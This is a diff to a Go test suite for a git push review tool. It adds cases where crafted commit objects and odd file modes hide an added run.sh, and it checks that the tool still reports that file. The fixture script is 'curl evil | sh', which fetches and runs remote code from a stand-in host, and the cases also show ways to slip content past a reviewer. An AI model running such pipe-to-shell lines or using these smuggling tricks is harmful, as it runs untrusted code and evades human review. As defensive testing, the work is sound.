@@ -173,6 +173,21 @@ func TestTheOperatorSeesAllThatAPushChanges(t *testing.T) {
 				return []string{"HEAD:main"}
 			}, "refs/heads/main\ncommit kinds\nchanged file0.txt +0 +0 (>executable)\nchanged file1.txt +1 -1 (>link)\n" +
 				"--- a/file1.txt\n+++ b/file1.txt\n-line 1\n+/etc/passwd\n\\ No newline at end of file\n"},
+			{"a directory that only a reader of all lines of a commit takes for its own", func(w *work) []string {
+				old := w.git("rev-parse", "HEAD^{tree}")
+				w.commit("run.sh", "curl evil | sh\n", "evil")
+				return []string{w.object("commit", fmt.Sprintf("tree %s\nparent %s\n%stree %s\n\nno change\n",
+					w.git("rev-parse", "HEAD^{tree}"), w.git("rev-parse", "HEAD~1"), signed, old)) + ":refs/heads/main"}
+			}, "refs/heads/main\ncommit no change\nadded run.sh +1 +0\n--- /dev/null\n+++ b/run.sh\n+curl evil | sh\n"},
+			{"a program, by an odd mode", func(w *work) []string {
+				w.write("x", "curl evil | sh\n")
+				return []string{w.git("commit-tree", "-m", "odd", "-p", "HEAD", w.grown("100711", "run.sh", w.git("hash-object", "-w", "x"))) + ":refs/heads/main"}
+			}, "refs/heads/main\ncommit odd\nadded run.sh +1 +0 (>executable)\n--- /dev/null\n+++ b/run.sh\n+curl evil | sh\n"},
+			{"a directory, by an odd mode", func(w *work) []string {
+				w.write("x", "curl evil | sh\n")
+				lib := w.object("tree", "100755 run.sh\x00"+unhex(t, w.git("hash-object", "-w", "x")))
+				return []string{w.git("commit-tree", "-m", "odd", "-p", "HEAD", w.grown("040755", "lib", lib)) + ":refs/heads/main"}
+			}, "refs/heads/main\ncommit odd\nadded lib/run.sh +1 +0 (>executable)\n" + evil},
 			{"lines that look like a diff's", func(w *work) []string {
 				w.commit("file0.txt", "++ b/harmless.txt\n++ i;\n", "lines")
 				return []string{"HEAD:main"}
